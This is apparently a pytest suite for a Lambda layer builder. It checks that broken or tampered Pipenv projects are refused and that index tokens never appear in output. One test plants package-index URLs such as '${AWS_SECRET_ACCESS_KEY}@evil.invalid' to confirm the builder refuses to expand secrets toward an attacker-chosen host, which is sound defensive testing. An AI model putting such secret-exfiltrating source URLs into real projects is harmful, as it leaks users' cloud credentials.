"""Broken and dangerous projects, end to end through `layer-builder build` and the builder service.

Every rejection exits 2 with one message naming the file, package or limit and what to do, and
leaves nothing behind. Packages without a wheel for the target are refused unless the operator
allows building them from source (`--allow-sdist NAME`, or AllowSdist for the Lambda); the advice
names each package and follows what its release offers.
"""

from __future__ import annotations

import json
import os
import shutil
import struct
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from lockfactory import PipenvProject, fake_hashes, make_project
from wheelhouse import lock_entry, write_code

from layer_builder import bytecode, limits
from layer_builder.service.settings import Settings
from layer_builder.target import ARCH_MACHINE, ELF_MACHINE, Target
from tools.cfn import Resolver, load_template

from .conftest import (
    CliRun,
    House,
    IndexServer,
    Sandbox,
    Service,
    archive_dir,
    index_of,
    make_sdist,
    pure_project,
)
from .table import record

TARGET = Target().describe()  # python3.13/x86_64 (manylinux_2_34)
HOST_ARCH = {machine: arch for arch, machine in ARCH_MACHINE.items()}.get(os.uname().machine, "")
OTHER_ARCH = {"x86_64": "arm64", "arm64": "x86_64"}.get(HOST_ARCH, "")
needs_lambda_arch = pytest.mark.skipif(not HOST_ARCH,
                                       reason="this machine is no Lambda architecture")

# Real releases that publish no Linux wheel, with every file hash as `pipenv lock` records them.
PYYAML_52 = {"version": "==5.2", "index": "pypi", "hashes": [f"sha256:{h}" for h in (
    "0e7f69397d53155e55d10ff68fdfb2cf630a35e6daf65cf0bdeaf04f127c09dc",
    "2e9f0b7c5914367b0916c3c104a024bb68f269a486b9d04a2e8ac6f6597b7803",
    "35ace9b4147848cafac3db142795ee42deebe9d0dad885ce643928e88daebdcc",
    "38a4f0d114101c58c0f3a88aeaa44d63efd588845c5a2df5290b73db8f246d15",
    "483eb6a33b671408c8529106df3707270bfacb2447bf8ad856a4b4f57f6e3075",
    "4b6be5edb9f6bb73680f5bf4ee08ff25416d1400fbd4535fe0069b2994da07cd",
    "7f38e35c00e160db592091751d385cd7b3046d6d51f578b29943225178257b31",
    "8100c896ecb361794d8bfdb9c11fce618c7cf83d624d73d5ab38aef3bc82d43f",
    "c0ee8eca2c582d29c3c2ec6e2c4f703d1b7f1fb10bc72317355a746057e7346c",
    "e4c015484ff0ff197564917b4b4246ca03f411b9bd7f16e02a2f586eb48b6d04",
    "ebc4ed52dcc93eeebeae5cf5deb2ae4347b3a81c3fa12b0b8c976544829396a4")]}
DOCOPT_062 = {"version": "==0.6.2", "index": "pypi", "hashes": [
    "sha256:49b3a825280bd66b3aa83585ef59c4a8c82f2c8a522dbe754a8bc8d08c85c491"]}

Mutate = Callable[[PipenvProject], None]


def entry(project: PipenvProject, name: str = "tinypure") -> dict:
    return project.lock["default"].setdefault(name, {})


def lock_change(change: Callable[[PipenvProject], None]) -> Mutate:
    """Change the lock only: its _meta hash still matches the Pipfile."""
    def mutate(project: PipenvProject) -> None:
        change(project)
        project.write_lock()
    return mutate


def add_to_lock(name: str, value: dict) -> Mutate:
    return lock_change(lambda p: p.lock["default"].__setitem__(name, value))


def stale(project: PipenvProject) -> None:
    project.packages["requests"] = "*"  # added to the Pipfile after `pipenv lock`
    project.write_pipfile()


def tamper(project: PipenvProject) -> None:
    entry(project)["hashes"] = ["sha256:" + "0" * 64]
    project.write_lock()


# id, change, what the message must say (file/package/limit, and what to do)
BROKEN = [
    ("missing-pipfile", lambda p: p.pipfile_path.unlink(),
     ["Pipfile not found at the project root", "upload the project with Pipfile and Pipfile.lock"]),
    ("missing-lock", lambda p: p.lock_path.unlink(),
     ["Pipfile.lock not found next to the Pipfile", "run `pipenv lock`"]),
    ("invalid-toml", lambda p: p.write_pipfile('[[source]\nurl = "${PIP_INDEX_URL}"\n'),
     ["Pipfile is not valid TOML"]),
    ("invalid-json", lambda p: p.write_lock('{"_meta": {"hash": '),
     ["Pipfile.lock is not valid JSON", "Re-run `pipenv lock`"]),
    ("lock-not-an-object", lambda p: p.write_lock("[]"),
     ["Pipfile.lock has no `default` section", "re-run `pipenv lock`"]),
    ("stale-lock", stale,
     ["Pipfile.lock is out of date with the Pipfile", "run `pipenv lock` and upload both files"]),
    ("unpinned", lock_change(lambda p: entry(p).update(version="*")),
     ["Pipfile.lock default entry 'tinypure' is not pinned with ==", "re-run `pipenv lock`"]),
    ("range-pinned", lock_change(lambda p: entry(p).update(version=">=1.0")),
     ["'tinypure' is not pinned with == (got '>=1.0')"]),
    ("unhashed", lock_change(lambda p: entry(p).update(hashes=[])),
     ["Pipfile.lock default entry 'tinypure' has no hashes", "hashes must be kept"]),
    ("malformed-hash", lock_change(lambda p: entry(p).update(hashes=["md5:1234"])),
     ["'tinypure' has a malformed hash 'md5:1234'"]),
    ("vcs", add_to_lock("teamlib", {"git": "https://git.example.invalid/team/teamlib.git",
                                    "ref": "0123456789abcdef0123456789abcdef01234567"}),
     ["default entry 'teamlib' is a git dependency, which cannot be hash-verified",
      "publish it to a package index and pin it with =="]),
    ("path", add_to_lock("vendored", {"path": "./vendor/vendored"}),
     ["default entry 'vendored' is a path dependency", "pin it with =="]),
    ("editable-outside", add_to_lock("mylib", {"editable": True, "path": "../mylib"}),
     ["default entry 'mylib' is a path dependency on '../mylib', outside the project",
      "Move it into the project", "pin it with =="]),
    ("file-url", add_to_lock("wheelfile", {"file": "https://files.example.invalid/w-1.0.tar.gz"}),
     ["default entry 'wheelfile' is a file dependency"]),
    ("unknown-index", lock_change(lambda p: entry(p).update(index="private")),
     ["names the index 'private', which is not among the lock's sources (pypi)",
      "fix the Pipfile's [[source]] and re-run `pipenv lock`"]),
    ("invalid-marker", lock_change(lambda p: entry(p).update(markers="python_version >>> '3'")),
     ["Pipfile.lock entry 'tinypure' has an invalid marker"]),
    ("package-not-found", add_to_lock("nosuchpkg", {"version": "==1.0.0", "index": "pypi",
                                                    "hashes": fake_hashes("nosuchpkg", "1.0.0")}),
     ["nosuchpkg==1.0.0 was not found on the package index", "check the name and version"]),
    ("tampered-hash", tamper,
     ["tinypure==1.0.0 does not match the hashes in Pipfile.lock", "trusted index"]),
]


@pytest.mark.parametrize(("mutate", "expected"), [pytest.param(*b[1:], id=b[0]) for b in BROKEN])
def test_cli_refuses_broken_project(tmp_path: Path, sandbox: Sandbox, house: House,
                                    run_cli: Callable[..., CliRun], mutate: Mutate,
                                    expected: list[str], request: pytest.FixtureRequest) -> None:
    project = pure_project(tmp_path / "project", house)
    mutate(project)
    run = run_cli(project.root, "--index-url", house.url)
    assert run.code == 2, run.stderr
    message = run.problem
    for text in expected:
        assert text in message, message
    assert sandbox.leftovers() == []
    record(f"project {request.node.callspec.id}", f"refused: {message}")


def test_package_missing_from_the_real_index_is_refused(
        tmp_path: Path, sandbox: Sandbox, run_cli: Callable[..., CliRun]) -> None:
    name = "layer-builder-reliability-no-such-distribution"
    project = make_project(tmp_path / "project", {name: {
        "version": "==1.0.0", "index": "pypi", "hashes": fake_hashes(name, "1.0.0")}})
    run = run_cli(project.root)  # the lock's ${PIP_INDEX_URL}: the environment's or uv's default
    assert run.code == 2, run.stderr
    message = run.problem
    assert f"{name}==1.0.0 was not found on the package index" in message
    assert "check the name and version in the Pipfile" in message
    assert sandbox.leftovers() == []
    record("project package missing from the real index", f"refused: {message}")


def test_layer_over_lambdas_unzipped_limit_is_refused(
        tmp_path: Path, sandbox: Sandbox, house: House, run_cli: Callable[..., CliRun],
        monkeypatch: pytest.MonkeyPatch) -> None:
    project = pure_project(tmp_path / "project", house)
    # 250 MB of real packages would take minutes; the limit is one constant read at build time.
    monkeypatch.setattr(limits, "MAX_UNZIPPED_BYTES", 100)
    run = run_cli(project.root, "--index-url", house.url)
    assert run.code == 2, run.stderr
    message = run.problem
    assert "over Lambda's limit of 100 bytes (function and all layers)" in message
    assert "Biggest: tinypure " in message and "Drop or split dependencies" in message
    assert sandbox.leftovers() == []
    record("project layer over 250 MB unzipped (limit patched to 100 B)", f"refused: {message}")


def test_python_version_mismatch_is_only_a_warning_saying_how_to_relock(
        tmp_path: Path, sandbox: Sandbox, house: House, run_cli: Callable[..., CliRun]) -> None:
    project = pure_project(tmp_path / "project", house, python_version="3.9")
    report_path = sandbox.out / "report.json"
    run = run_cli(project.root, "--index-url", house.url, "--report", str(report_path))
    assert run.code == 0, run.stderr
    warning = ("The lock was made for Python 3.9 (Pipfile [requires]) and the layer is for "
               "python3.13: packages pinned for 3.9 may not install or import on 3.13. Relock for "
               'the target: set python_version = "3.13" under [requires] in the Pipfile, run '
               "`pipenv lock --python 3.13` and upload both files.")
    assert warning in json.loads(report_path.read_text())["warnings"]
    assert "`pipenv lock --python 3.13`" in run.stdout
    assert (sandbox.out / "layer.zip").is_file()
    record("project python_version 3.9 for a python3.13 layer",
           f"accepted with a warning: {warning}")


# ---------------------------------------------------------------- no wheel for the target


def sdist_only_project(root: Path) -> PipenvProject:
    """The seed's own pin (pyyaml 5.2) and docopt 0.6.2: both ship only an sdist for Linux."""
    project = make_project(root, {"pyyaml": PYYAML_52, "docopt": DOCOPT_062})
    write_code(root, {"app/__init__.py": "import docopt\nimport yaml\n\nV = yaml.__version__\n"})
    return project


def test_every_package_without_a_wheel_is_named(
        tmp_path: Path, sandbox: Sandbox, run_cli: Callable[..., CliRun]) -> None:
    project = sdist_only_project(tmp_path / "project")
    run = run_cli(project.root)
    assert run.code == 2, run.stderr
    message = run.problem
    assert f"No wheel for {TARGET} of: docopt==0.6.2, pyyaml==5.2." in message
    # The advice follows what each release offers (issue 13 item 6): both have an sdist.
    assert ("docopt==0.6.2 publishes no wheels and an sdist: allow building it from source "
            "(--allow-sdist docopt / AllowSdist)") in message
    assert "(--allow-sdist pyyaml / AllowSdist), or pin a version that ships manylinux" in message
    assert sandbox.leftovers() == []
    record("project 2 sdist-only pins (pyyaml 5.2, docopt 0.6.2)", f"refused: {message}")


def test_allowing_one_sdist_still_refuses_the_other(
        tmp_path: Path, sandbox: Sandbox, run_cli: Callable[..., CliRun]) -> None:
    project = sdist_only_project(tmp_path / "project")
    run = run_cli(project.root, "--allow-sdist", "docopt")
    assert run.code == 2, run.stderr
    message = run.problem
    assert f"No wheel of pyyaml==5.2 for {TARGET}" in message and "docopt" not in message
    assert "--allow-sdist pyyaml" in message
    assert sandbox.leftovers() == []
    record("project sdist-only pins, --allow-sdist docopt only", f"refused: {message}")


@needs_lambda_arch
def test_allow_sdist_builds_them_and_the_report_says_so(
        tmp_path: Path, sandbox: Sandbox, run_cli: Callable[..., CliRun]) -> None:
    project = sdist_only_project(tmp_path / "project")
    report_path = sandbox.out / "report.json"
    run = run_cli(project.root, "--allow-sdist", "PyYAML", "--allow-sdist", "docopt",
                  "--arch", HOST_ARCH, "--report", str(report_path))
    assert run.code == 0, run.stderr
    report = json.loads(report_path.read_text())
    assert report["built_from_source"] == ["docopt==0.6.2", "pyyaml==5.2"]
    assert ("Built from source (operator allowed): docopt==0.6.2, pyyaml==5.2."
            in report["warnings"])
    assert report["checks"]["imports"] == "ok: app"  # `import docopt, yaml` under Python 3.13
    with zipfile.ZipFile(sandbox.out / "layer.zip") as zf:
        names = set(zf.namelist())
    assert {"python/docopt.py", "python/yaml/__init__.py"} <= names
    assert [p.name for p in sandbox.tmp.iterdir()] == []
    record("project sdist-only pins with --allow-sdist pyyaml docopt",
           f"accepted: built from source {report['built_from_source']}, recorded in the report")


@pytest.fixture
def tinysrc(tmp_path: Path, house: House) -> tuple[PipenvProject, str]:
    """A project locking `tinysrc`, an sdist-only package on a hermetic index."""
    sdist = make_sdist(tmp_path / "dists", "tinysrc", "1.0",
                       {"tinysrc.py": b"def triple(x):\n    return 3 * x\n"})
    index = index_of(tmp_path / "index", house, sdist)
    project = make_project(tmp_path / "project", {"tinypure": lock_entry(house.pure),
                                                  "tinysrc": lock_entry(sdist)})
    write_code(project.root, {"app/__init__.py": "import tinypure, tinysrc\n"})
    return project, index


@needs_lambda_arch
def test_source_build_for_another_architecture_is_refused_before_it_runs(
        sandbox: Sandbox, run_cli: Callable[..., CliRun],
        tinysrc: tuple[PipenvProject, str]) -> None:
    project, index = tinysrc
    run = run_cli(project.root, "--index-url", index, "--allow-sdist", "tinysrc",
                  "--arch", OTHER_ARCH)
    assert run.code == 2, run.stderr
    message = run.problem
    host, other = ARCH_MACHINE[HOST_ARCH], ARCH_MACHINE[OTHER_ARCH]
    assert f"No wheel of tinysrc==1.0 for {Target(arch=OTHER_ARCH).describe()}" in message
    assert f"makes {host} binaries, not {other}: build on {other}" in message
    assert sandbox.leftovers() == []
    record(f"project --allow-sdist for {OTHER_ARCH} on a {host} machine", f"refused: {message}")


@needs_lambda_arch
def test_source_build_without_the_target_interpreter_is_refused(
        sandbox: Sandbox, run_cli: Callable[..., CliRun], tinysrc: tuple[PipenvProject, str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    project, index = tinysrc
    monkeypatch.setattr(bytecode, "find_interpreter", lambda target, environ=None: None)
    run = run_cli(project.root, "--index-url", index, "--allow-sdist", "tinysrc",
                  "--arch", HOST_ARCH)
    assert run.code == 2, run.stderr
    message = run.problem
    assert "tinysrc==1.0" in message and "needs a Python 3.13 interpreter" in message
    assert sandbox.leftovers() == []
    record("project --allow-sdist without a Python 3.13 on the builder", f"refused: {message}")


@needs_lambda_arch
def test_source_built_binary_needing_a_newer_glibc_is_refused(
        tmp_path: Path, sandbox: Sandbox, house: House, run_cli: Callable[..., CliRun]) -> None:
    machine = ARCH_MACHINE[HOST_ARCH]
    # An ELF header for this machine whose dynamic strings ask for glibc 2.99.
    elf = (b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 3, ELF_MACHINE[HOST_ARCH])
           + b"\x00libc.so.6\x00GLIBC_2.2.5\x00GLIBC_2.99\x00")
    sdist = make_sdist(tmp_path / "dists", "newglibc", "1.0",
                       {"newglibc/__init__.py": b"", "newglibc/_native.so": elf},
                       tag=f"cp313-cp313-linux_{machine}")
    index = index_of(tmp_path / "index", house, sdist)
    project = make_project(tmp_path / "project", {"newglibc": lock_entry(sdist)})
    run = run_cli(project.root, "--index-url", index, "--allow-sdist", "newglibc",
                  "--arch", HOST_ARCH)
    assert run.code == 2, run.stderr
    message = run.problem
    assert "newglibc/_native.so (GLIBC_2.99) needs a newer glibc than" in message
    assert "build on Amazon Linux 2023" in message
    assert sandbox.leftovers() == []
    record("project source build linked against glibc 2.99", f"refused: {message}")


def test_allowed_package_that_has_a_wheel_uses_the_wheel(
        tmp_path: Path, sandbox: Sandbox, house: House, run_cli: Callable[..., CliRun]) -> None:
    project = pure_project(tmp_path / "project", house)
    report_path = sandbox.out / "report.json"
    run = run_cli(project.root, "--index-url", house.url, "--allow-sdist", "tinypure",
                  "--allow-sdist", "typo-pkg", "--report", str(report_path))
    assert run.code == 0, run.stderr
    report = json.loads(report_path.read_text())
    assert report["built_from_source"] == []  # nothing was built: the wheel exists
    [warning] = [w for w in report["warnings"] if "typo-pkg" in w]
    assert "check the spelling of --allow-sdist / AllowSdist" in warning
    record("project --allow-sdist for a package with a wheel, and a misspelt one",
           f"accepted: wheel used, nothing built; warning: {warning}")


# ---------------------------------------------------------------- ${VAR} in the lock's sources


AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"


@pytest.mark.parametrize("url", [
    pytest.param("https://${AWS_SECRET_ACCESS_KEY}@evil.invalid/simple", id="userinfo"),
    pytest.param("https://evil.invalid/${AWS_SECRET_ACCESS_KEY}/simple", id="path"),
    pytest.param("LOOPBACK", id="loopback-index-listening"),
])
def test_cli_expands_only_allowed_variables_and_asks_nothing(
        tmp_path: Path, sandbox: Sandbox, house: House, run_cli: Callable[..., CliRun],
        monkeypatch: pytest.MonkeyPatch, url: str, request: pytest.FixtureRequest) -> None:
    """A project you did not write cannot send your environment to an index of its choosing."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", AWS_SECRET)
    with IndexServer(house.simple.parent) as evil:  # would serve tinypure, if ever asked
        if url == "LOOPBACK":
            url = evil.url().replace("http://", "http://${AWS_SECRET_ACCESS_KEY}@")
        project = pure_project(tmp_path / "project", house,
                               sources=[{"name": "theirs", "url": url, "verify_ssl": True}])
        run = run_cli(project.root)
    assert run.code == 2, run.stderr
    assert evil.seen == []  # refused before any request
    message = run.problem
    assert message.startswith("Source 'theirs' in Pipfile.lock uses ${AWS_SECRET_ACCESS_KEY}, "
                              "which the builder does not expand")
    assert "`layer-builder build --allow-env AWS_SECRET_ACCESS_KEY`" in message
    assert AWS_SECRET not in run.stdout + run.stderr
    assert sandbox.leftovers() == []
    record(f"project lock source {request.node.callspec.id} reads $AWS_SECRET_ACCESS_KEY (CLI)",
           f"refused, no request made: {message}")


def test_allow_env_lets_your_own_variable_through_and_never_shows_it(
        tmp_path: Path, sandbox: Sandbox, house: House, run_cli: Callable[..., CliRun],
        monkeypatch: pytest.MonkeyPatch) -> None:
    token = f"tok-{uuid.uuid4().hex}"
    monkeypatch.setenv("TEAM_INDEX_TOKEN", token)
    report_path = sandbox.out / "report.json"
    with IndexServer(house.simple.parent, user="builder", password=token) as index:
        source = index.url(password="${TEAM_INDEX_TOKEN}")
        project = pure_project(tmp_path / "project", house,
                               sources=[{"name": "pypi", "url": source, "verify_ssl": True}])
        refused = run_cli(project.root)
        assert refused.code == 2 and "--allow-env TEAM_INDEX_TOKEN" in refused.problem
        run = run_cli(project.root, "--allow-env", "TEAM_INDEX_TOKEN", "--report",
                      str(report_path))
    assert run.code == 0, run.stderr
    assert index.authorized()
    assert token not in run.stdout + run.stderr + report_path.read_text()
    record("project lock source ${TEAM_INDEX_TOKEN} with --allow-env TEAM_INDEX_TOKEN (CLI)",
           "accepted: the index got the credentials; absent from output and report")


@pytest.mark.parametrize("where", ["path", "query", "userinfo"])
def test_index_token_in_any_part_of_the_url_is_never_shown(
        tmp_path: Path, sandbox: Sandbox, house: House, run_cli: Callable[..., CliRun],
        monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    """The CLI registers the index URL it uses: progress, -vv logs, summary, --json, the report,
    and the installer's own words when the index is down never show the token (issue 9)."""
    token = f"Tk{uuid.uuid4().hex}"
    served = tmp_path / "served"
    shutil.copytree(house.simple, served / token / "simple")
    shutil.copytree(house.simple, served / "simple")
    project = pure_project(tmp_path / "project", house)
    report_path = sandbox.out / "report.json"
    auth = {"user": "u", "password": token} if where == "userinfo" else {}
    with IndexServer(served, **auth) as index:
        base = index.url().removesuffix("/simple")
        url = {"path": f"{base}/{token}/simple", "query": f"{base}/simple?token={token}",
               "userinfo": index.url()}[where]
        monkeypatch.setenv("PIP_INDEX_URL", url)
        run = run_cli(project.root, "-vv", "--json", "--report", str(report_path))
        assert run.code == 0, run.stderr
    # The same index, gone: the installer's message quotes the URL it could not reach.
    down = run_cli(project.root, "--no-cache")
    assert down.code == 1, down.stderr
    assert "127.0.0.1" in down.stderr  # the URL is shown, masked
    everything = run.stdout + run.stderr + report_path.read_text() + down.stdout + down.stderr
    assert token not in everything
    said = " ".join(line.strip() for line in down.stderr.splitlines() if "127.0.0.1" in line)
    record(f"index token in the URL's {where}: CLI with -vv, --json, --report, index down",
           f"leaked nothing: {said}")


# ---------------------------------------------------------------- the builder service


SERVICE_CASES = ["stale-lock", "unhashed", "vcs", "unknown-index", "tampered-hash",
                 "package-not-found"]


@pytest.mark.parametrize(("mutate", "expected"), [
    pytest.param(*b[1:], id=b[0]) for b in BROKEN if b[0] in SERVICE_CASES])
def test_service_refuses_broken_project_and_changes_nothing(
        tmp_path: Path, sandbox: Sandbox, house: House, service: Service, mutate: Mutate,
        expected: list[str], request: pytest.FixtureRequest) -> None:
    project = pure_project(tmp_path / "project", house)
    mutate(project)
    case = request.node.callspec.id
    upload = service.upload(archive_dir(project.root, tmp_path / f"{case}-1.0.0.zip", wrap=case))
    before = service.state(upload)
    message = service.assert_refused(upload, service.process(upload), before)
    for text in expected:
        assert text in message, message
    assert sandbox.leftovers() == []
    record(f"upload {case} (builder service)",
           f"refused, failure report written, nothing published: {message}")


@needs_lambda_arch
def test_only_the_operator_can_allow_source_builds_in_the_lambda(
        tmp_path: Path, sandbox: Sandbox, service: Service,
        tinysrc: tuple[PipenvProject, str]) -> None:
    project, index = tinysrc
    # The upload asks for it in every way it could: none of them is read.
    write_code(project.root, {
        "pyproject.toml": '[tool.layer-builder]\nallow_sdist = ["tinysrc"]\n',
        ".env": "ALLOW_SDIST=tinysrc\n", "uv.toml": "no-binary = true\n"})
    upload = service.upload(archive_dir(project.root, tmp_path / "wants-source-1.0.0.zip"))
    before = service.state(upload)
    refused = service.process(upload, package_index_url=index)
    message = service.assert_refused(upload, refused, before)
    assert "No wheel of tinysrc==1.0" in message and "AllowSdist" in message
    assert refused.error["kind"] == "no_wheel_for_target"

    operator = frozenset({"tinysrc"})  # AllowSdist=tinysrc in the template
    again = service.upload(archive_dir(project.root, tmp_path / "wants-source-1.0.1.zip"))
    built = service.process(again, package_index_url=index, allow_sdist=operator,
                            targets=(Target(arch=HOST_ARCH),))
    assert built.status == "published", built.to_dict()
    assert built.build["built_from_source"] == ["tinysrc==1.0"]
    assert service.report(built.report_key)["build"]["built_from_source"] == ["tinysrc==1.0"]
    assert sandbox.leftovers() == []
    record("upload asking for source builds itself (pyproject, .env, uv.toml)",
           f"refused: {message}")
    record("upload with AllowSdist=tinysrc set by the operator",
           "accepted: published, report.built_from_source = ['tinysrc==1.0']")


def test_allow_sdist_comes_from_the_template_parameter() -> None:
    env = Resolver(load_template(), overrides={"AllowSdist": "PyYAML,docopt"}).function_environment(
        "BuilderFunction")
    assert env["ALLOW_SDIST"] == "PyYAML,docopt"
    settings = Settings.from_env(env)
    assert settings.allow_sdist == frozenset({"pyyaml", "docopt"})
    default = Resolver(load_template()).function_environment("BuilderFunction")
    assert Settings.from_env(default).allow_sdist == frozenset()
    record("template AllowSdist parameter", "accepted: ALLOW_SDIST reaches the builder's settings; "
           "empty by default, so source builds are off")
